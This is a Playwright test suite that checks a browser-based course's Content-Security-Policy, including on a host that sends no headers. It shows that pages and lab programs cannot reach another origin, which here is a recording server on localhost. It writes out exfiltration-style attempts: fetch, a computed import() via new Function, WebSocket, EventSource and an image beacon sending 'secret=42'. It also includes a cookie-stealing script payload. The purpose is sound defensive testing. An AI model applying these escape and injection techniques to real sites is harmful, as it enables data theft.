import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Locator, Page } from '@playwright/test';
import { contentSecurityPolicy, metaContentSecurityPolicy } from '../../src/integrations/headers.ts';
import { test, expect, forgetLastRun, openLab, pasteCode, runLabToDone, useSharedLab } from './fixtures.ts';

/**
 * The course promises that nothing leaves the browser. Its Content-Security-Policy keeps that promise:
 * neither a page nor a lab program may send a request to another origin. "Another origin" here is a
 * small server on another port of this machine, which records every request that reaches it; the tests
 * assert it received none.
 */

const lessonPath = '/module-5/day-10-moving-to-devices/';

interface OtherOrigin {
  origin: string;
  /** The paths of every request that reached it, WebSocket upgrades included. */
  hits: string[];
  close(): Promise<void>;
}

async function startOtherOrigin(): Promise<OtherOrigin> {
  const hits: string[] = [];
  const server = http.createServer((request, response) => {
    hits.push(request.url ?? '');
    response.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Cross-Origin-Resource-Policy': 'cross-origin',
      'Content-Type': 'text/javascript',
    });
    response.end('export default "reached";');
  });
  server.on('upgrade', (request, socket) => {
    hits.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    // The page may still hold a keep-alive connection: close those too, or server.close() waits for them
    // past the test's time (it did once on a clean clone, in the headerless host's afterEach).
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/**
 * A server on yet another port that passes every request on to the site and drops its
 * Content-Security-Policy header: a host that sets no headers (GitHub Pages), where only the pages'
 * <meta> policy is left.
 */
async function startHeaderlessHost(siteUrl: string): Promise<{ origin: string; close(): Promise<void> }> {
  const site = new URL(siteUrl);
  const server = http.createServer((request, response) => {
    const upstream = http.request(
      new URL(request.url ?? '/', site),
      { method: request.method, headers: { ...request.headers, host: site.host } },
      (reply) => {
        const headers = { ...reply.headers };
        delete headers['content-security-policy'];
        response.writeHead(reply.statusCode ?? 502, headers);
        reply.pipe(response);
      },
    );
    upstream.on('error', () => response.writeHead(502).end());
    request.pipe(upstream);
  });
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  return {
    origin: `http://localhost:${(server.address() as AddressInfo).port}`,
    // The page may still hold a keep-alive connection: close those too, or server.close() waits for them
    // past the test's time (it did once on a clean clone, in the headerless host's afterEach).
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** A lab program that tries every way out it has, catching each failure so the run reports all of them. */
function escapingProgram(other: string): string {
  const socketUrl = other.replace(/^http/, 'ws');
  return [
    "import type { Lab } from '../api';",
    '',
    'export default async function main(lab: Lab) {',
    `  const other = '${other}';`,
    '  const attempts: [string, () => Promise<unknown>][] = [',
    "    ['fetch', () => fetch(other + '/fetch?secret=42')],",
    "    ['no-cors fetch', () => fetch(other + '/beacon?secret=42', { mode: 'no-cors' })],",
    // The lab's module linker refuses import() of a computed name before the run; built from a string, the
    // call escapes the linker, and only the policy (no 'unsafe-eval', scripts from the site only) stops it.
    "    ['import', () => new Function('url', 'return import(url)')([other, 'module.js'].join('/'))],",
    "    ['websocket', () => new Promise((resolve, reject) => {",
    `      const socket = new WebSocket('${socketUrl}/socket');`,
    '      socket.onopen = resolve;',
    "      socket.onerror = () => reject(new Error('the WebSocket failed'));",
    '    })],',
    "    ['event source', () => new Promise((resolve, reject) => {",
    "      const source = new EventSource(other + '/events');",
    '      source.onopen = resolve;',
    "      source.onerror = () => (source.close(), reject(new Error('the EventSource failed')));",
    '    })],',
    '  ];',
    '  for (const [name, attempt] of attempts) {',
    '    try {',
    '      await attempt();',
    "      lab.log(name + ': reached');",
    '    } catch (error) {',
    "      lab.log(name + ': blocked (' + String(error) + ')');",
    '    }',
    '  }',
    '}',
  ].join('\n');
}

/** From the page itself (as an injected script would): an image and a fetch to `other`. */
async function tryFromPage(page: Page, other: string): Promise<{ image: string; fetch: string }> {
  return page.evaluate(async (target) => {
    const image = await new Promise<string>((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
      img.src = `${target}/pixel.png?secret=42`;
      document.body.append(img);
    });
    const fetched = await fetch(`${target}/page-fetch?secret=42`, { mode: 'no-cors' }).then(
      () => 'reached',
      () => 'blocked',
    );
    return { image, fetch: fetched };
  }, other);
}

// A refused request is logged by the browser as a console error: here, that is the point.
test.use({ permissions: ['clipboard-read', 'clipboard-write'], allowedConsoleErrors: [/Content Security Policy/] });

let other: OtherOrigin;
test.beforeEach(async () => {
  other = await startOtherOrigin();
});
test.afterEach(async () => {
  await other.close();
});

test('every page states the policy, as a header and in a <meta> before any script', async ({ page }) => {
  for (const path of ['/', lessonPath, '/week-6/', '/404.html']) {
    const response = await page.goto(path);
    expect(response?.headers()['content-security-policy'], path).toBe(contentSecurityPolicy);
    const meta = page.locator('head meta[http-equiv="Content-Security-Policy"]');
    await expect(meta).toHaveAttribute('content', metaContentSecurityPolicy);
    // The meta comes before the first script, or that script would run unchecked.
    expect(
      await page.evaluate(() => document.head.querySelector('meta[http-equiv="Content-Security-Policy"], script')?.tagName),
    ).toBe('META');
  }
});

test('a page loads no image and fetches nothing from another origin', async ({ page }) => {
  await page.goto(lessonPath);
  expect(await tryFromPage(page, other.origin)).toEqual({ image: 'blocked', fetch: 'blocked' });
  expect(other.hits).toEqual([]);
});

test.describe('on a host that sends no headers, the <meta> policy alone', () => {
  let host: { origin: string; close(): Promise<void> };
  test.beforeEach(async ({ baseURL }) => {
    host = await startHeaderlessHost(baseURL ?? '');
  });
  test.afterEach(async () => {
    await host.close();
  });

  test('keeps the page from loading an image or fetching from another origin', async ({ page }) => {
    const response = await page.goto(`${host.origin}${lessonPath}`);
    expect(response?.headers()['content-security-policy']).toBeUndefined();
    expect(await tryFromPage(page, other.origin)).toEqual({ image: 'blocked', fetch: 'blocked' });
    expect(other.hits).toEqual([]);
  });

  // A module worker takes its policy from its own script's response headers, so with no headers the lab
  // worker would have none: src/lab/page/worker-under-page-policy.ts starts it from a blob: module that imports the real
  // one, and a blob: worker inherits the page's policy, <meta> included.
  test('keeps a lab program from reaching another origin too', async ({ page }) => {
    const lab = await openLab(page, `${host.origin}${lessonPath}`, 'hello-tensors');
    await pasteCode(page, lab, escapingProgram(other.origin));
    const log = await runLabToDone(lab);
    await expect(log).not.toContainText('reached');
    expect(other.hits).toEqual([]);
  });
});

/**
 * The lab's programs run one after another in one lab, as a learner would: Monaco loads once for the group.
 * The page counts the types of the files lab.download makes (for the last test) from its first script on.
 */
test.describe('lab programs, one after another', () => {
  let page: Page;
  let lab: Locator;
  useSharedLab(lessonPath, 'hello-tensors', (opened) => ({ page, lab } = opened), {
    allowedConsoleErrors: [/Content Security Policy/],
    beforeOpen: async (opening) => {
      await opening.context().addInitScript(() => {
        const types: string[] = [];
        Object.assign(window, { downloadTypes: types });
        const create = URL.createObjectURL.bind(URL);
        URL.createObjectURL = (object: Blob | MediaSource) => {
          if (object instanceof Blob) types.push(object.type);
          return create(object);
        };
      });
    },
  });

  test('a program cannot send anything to another origin: fetch, a computed import(), a WebSocket, an EventSource', async () => {
    await pasteCode(page, lab, escapingProgram(other.origin));
    const log = await runLabToDone(lab);
    for (const attempt of ['fetch', 'no-cors fetch', 'import', 'websocket', 'event source'])
      await expect(log).toContainText(`${attempt}: blocked`);
    await expect(log).not.toContainText('reached');
    expect(other.hits).toEqual([]);
  });

  test('a program whose request is blocked is told that the course blocks network access from labs', async () => {
    await pasteCode(page, lab, `export default async function main() {\n  await fetch('${other.origin}/collect');\n}`);
    await forgetLastRun(lab);
    await lab.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(lab).toHaveAttribute('data-state', 'error', { timeout: 60_000 });
    await expect(lab.getByRole('log')).toContainText(
      `The course blocks network access from labs: this program tried to connect to ${other.origin}/collect`,
    );
    expect(other.hits).toEqual([]);
  });

  test('lab.download never makes a file the browser would run as the course', async () => {
    await pasteCode(
      page,
      lab,
      "import type { Lab } from '../api';\n\nexport default async function main(lab: Lab) {\n  lab.download('page.html', '<script>alert(document.cookie)</script>', 'text/html');\n  lab.download('rows.csv', 'a,b', 'text/csv');\n}",
    );
    const log = await runLabToDone(lab);
    await expect(log).toContainText('lab.download saves "page.html" as text/plain, not text/html');
    await expect(lab.getByRole('link', { name: 'Download page.html' })).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as { downloadTypes: string[] }).downloadTypes)).toEqual(
      expect.arrayContaining(['text/plain', 'text/csv']),
    );
    expect(await page.evaluate(() => (window as unknown as { downloadTypes: string[] }).downloadTypes)).not.toContain(
      'text/html',
    );
  });
});
